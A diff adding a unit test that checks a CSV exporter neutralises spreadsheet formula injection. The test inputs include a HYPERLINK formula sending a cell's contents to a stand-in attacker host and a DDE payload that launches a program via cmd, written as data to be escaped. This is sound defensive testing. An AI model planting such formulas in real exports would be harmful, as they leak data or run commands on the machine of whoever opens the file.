@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { cellText, compareValues, nextSort, pageOf, sortRows, toCsv } from './table-model';
+import { cellText, compareValues, neutraliseFormula, nextSort, pageOf, sortRows, toCsv } from './table-model';
 
 describe('sortRows', () => {
   const rows = [
@@ -88,5 +88,28 @@ describe('toCsv', () => {
   it('writes false and 0 rather than dropping them', () => {
     expect(toCsv(['f', 'z'], [{ f: false, z: 0 }])).toBe('f,z\r\nfalse,0\r\n');
     expect(cellText(undefined)).toBe('');
+  });
+
+  it('neutralises text a spreadsheet would run as a formula, and leaves numbers numbers', () => {
+    const hostile = ['=HYPERLINK("https://evil.example/?d="&A2,"x")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1'];
+    const csv = toCsv(['v'], hostile.map((v) => ({ v })));
+    expect(csv).toBe(
+      'v\r\n' +
+        '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""x"")"\r\n' +
+        "'+1+cmd|/C calc!A0\r\n" +
+        "'-2+3\r\n" +
+        "'@SUM(A1:A9)\r\n" +
+        "'\t=1+1\r\n" +
+        '"\'\r=1+1"\r\n' +
+        "'=1\r\n",
+    );
+    // Negative numbers, as numbers or as NUMERIC strings, and signed exponents stay numeric.
+    expect(toCsv(['n', 's'], [{ n: -5, s: '-12.50' }, { n: -0.5, s: '+3' }, { n: 1e21, s: '-1e-7' }])).toBe('n,s\r\n-5,-12.50\r\n-0.5,+3\r\n1e+21,-1e-7\r\n');
+    // Text that merely contains those characters, and JSON or booleans, is untouched.
+    expect(toCsv(['t', 'j', 'b'], [{ t: 'a=b', j: { k: '=1' }, b: false }])).toBe('t,j,b\r\na=b,"{""k"":""=1""}",false\r\n');
+    // A column named by the model's SQL alias is text from outside too.
+    expect(toCsv(['=cmd()'], [])).toBe("'=cmd()\r\n");
+    expect(neutraliseFormula('-')).toBe("'-");
+    expect(neutraliseFormula('- item')).toBe("'- item");
   });
 });
